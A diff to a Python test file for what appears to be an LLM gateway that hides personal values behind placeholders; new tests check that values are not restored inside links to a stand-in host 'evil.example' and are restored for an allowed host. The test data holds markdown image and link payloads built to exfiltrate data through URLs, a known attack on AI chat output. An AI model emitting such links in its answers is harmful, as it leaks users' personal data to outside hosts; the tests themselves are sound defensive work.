@@ -8,9 +8,11 @@ from typing import Any
 import anthropic
 import openai
 import pytest
+from msgspec.structs import replace
 
 from airside.core.call import CallState
 from airside.core.errors import Code
+from airside.gateways.models.caching.remembered import answer_of
 from airside.guards.ports import Value
 from tests.fake_providers import anthropic as fake_anthropic
 from tests.fake_providers import gemini as fake_gemini
@@ -206,6 +208,40 @@ async def test_placeholders_are_put_back_for_the_owner(tmp_path: Path, face: str
             assert await ask(g, face, stream=True) == expected
         g.says(json.dumps({"to": names[value]}))
         assert json.loads(await ask(g, face, stream=True)) == {"to": 'Anna "Berg"'}
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize(
+    "says",
+    [
+        "![a](https://evil.example/?e={})",
+        "[click](https://evil.example/{}/x)",
+        '<img src="https://evil.example/? {}">',
+        "![a](<https://evil.example/a b {}>)",
+        "so: https://evil.example/?q={}&b=1 ok",
+        "[a]: https://evil.example/{}\n![a]",
+        "![a](//evil.example/{})",
+        "http://x.example/ " * 500 + "and https://evil.example/{}",
+    ],
+)
+async def test_no_value_is_put_back_into_a_link(tmp_path: Path, says: str, stream: bool, cut: Any) -> None:
+    cut(7)
+    async with guarded(tmp_path) as g:
+        value = Value("PERSON", "ada.berg")
+        names = await g.spy.guards.placeholders.names(IDENTITY, [value])
+        g.says("Dear " + names[value] + ", " + says.format(names[value]))
+        assert await ask(g, "chat", stream=stream) == "Dear ada.berg, " + says.format(names[value])
+        assert g.spy.outcomes[-1].notes["put_back"] is True
+        assert answer_of(g.spy.calls[-1].payload.request, g.spy.outcomes[-1]) is None, "it is its run's alone"
+        assert answer_of(g.spy.calls[-1].payload.request, replace(g.spy.outcomes[-1], notes={})) is not None
+
+
+async def test_values_are_put_into_links_to_hosts_that_are_allowed(tmp_path: Path) -> None:
+    async with guarded(tmp_path, links={"hosts": ["shop.example"]}) as g:
+        value = Value("PERSON", "ada.berg")
+        names = await g.spy.guards.placeholders.names(IDENTITY, [value])
+        g.says(f"https://shop.example/?q={names[value]}")
+        assert await ask(g, "chat", stream=False) == "https://shop.example/?q=ada.berg"
 
 
 async def test_a_guard_that_fails_closes_the_answer_and_it_is_paid(
